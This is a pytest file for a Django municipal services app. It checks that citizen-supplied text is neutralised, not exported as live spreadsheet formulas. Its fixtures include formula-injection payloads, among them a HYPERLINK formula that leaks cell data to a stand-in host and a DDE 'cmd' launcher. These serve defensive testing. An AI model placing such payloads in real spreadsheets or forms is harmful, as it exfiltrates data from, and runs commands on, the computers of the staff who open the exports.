"""Issue 9, item 4: citizens' text must never become a live spreadsheet formula in any export.

Reproduced on /workorders/export/, /hotline/ledger/export/ and /audit/export/; checked here on every
xlsx the staff can download, and on both writers (core.exports and the bulletin's streaming writer).
"""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from zhenwu.core.exports import Column, build_xlsx, neutralise
from zhenwu.testing import Cast, login

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"点击")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign, which WPS treats as a formula too
]


def cells(content: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_inert(content: bytes, must_contain: str) -> None:
    found = False
    for cell in cells(content):
        assert cell.data_type != "f", f"formula in {cell.coordinate}: {cell.value!r}"
        if isinstance(cell.value, str) and must_contain in cell.value:
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell.value
            found = True
    assert found, "the payload is not in the export at all"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_core_writer_keeps_every_payload_as_text(payload: str) -> None:
    data = build_xlsx(title="t", columns=[Column("内容", lambda r: r)], rows=[payload])
    assert_inert(data, payload.lstrip("\t\r"))
    assert neutralise(payload) == "'" + payload


def test_bulletin_stream_writer_neutralises_too() -> None:
    from zhenwu.assessment.xlsxstream import Workbook

    wb = Workbook()
    wb.add_sheet("明细", ["内容"], [[p] for p in PAYLOADS])
    content = wb.save()
    for p in PAYLOADS:
        assert_inert(content, p.lstrip("\t\r"))


def test_plain_text_and_numbers_are_unchanged() -> None:
    data = build_xlsx(title="t", columns=[Column("a", lambda r: r)], rows=["丫河村路灯", 12, "a=b"])
    values = [c.value for c in cells(data)]
    assert values[1:] == ["丫河村路灯", 12, "a=b"]


def test_workorder_export(cast: Cast, client: Client) -> None:
    from zhenwu.workorders.services import workorder_create

    workorder_create(
        actor=cast.operator,
        channel="h5",
        category=None,
        description=PAYLOADS[0],
        address="=1+1",
        reporter_name="=cmd|' /C calc'!A0",
        reporter_phone="13912340000",
    )
    response = login(client, cast.town_admin).get(reverse("workorders:export"))
    assert response.status_code == 200
    assert_inert(response.content, 'HYPERLINK("http://evil.example')


def test_audit_export(cast: Cast, client: Client) -> None:
    from zhenwu.audit.services import audit_record

    audit_record(actor=cast.yahe_cadre, action="test.payload", message="=1+1", object_repr=PAYLOADS[0])
    response = login(client, cast.auditadmin).get(reverse("audit:event_export"))
    assert response.status_code == 200
    assert_inert(response.content, 'HYPERLINK("http://evil.example')


def test_user_and_unit_exports(cast: Cast, client: Client) -> None:
    from zhenwu.accounts.services import user_create

    user_create(actor=cast.sysadmin, username="evil", real_name="=1+1", password="Str0ng#Passw0rd!")
    c = login(client, cast.sysadmin)
    assert_inert(c.get(reverse("accounts:user_export")).content, "1+1")
    cast.yahe.name = "@SUM(A1)丫河村"
    cast.yahe.save()
    assert_inert(c.get(reverse("orgs:unit_export")).content, "SUM(A1)丫河村")
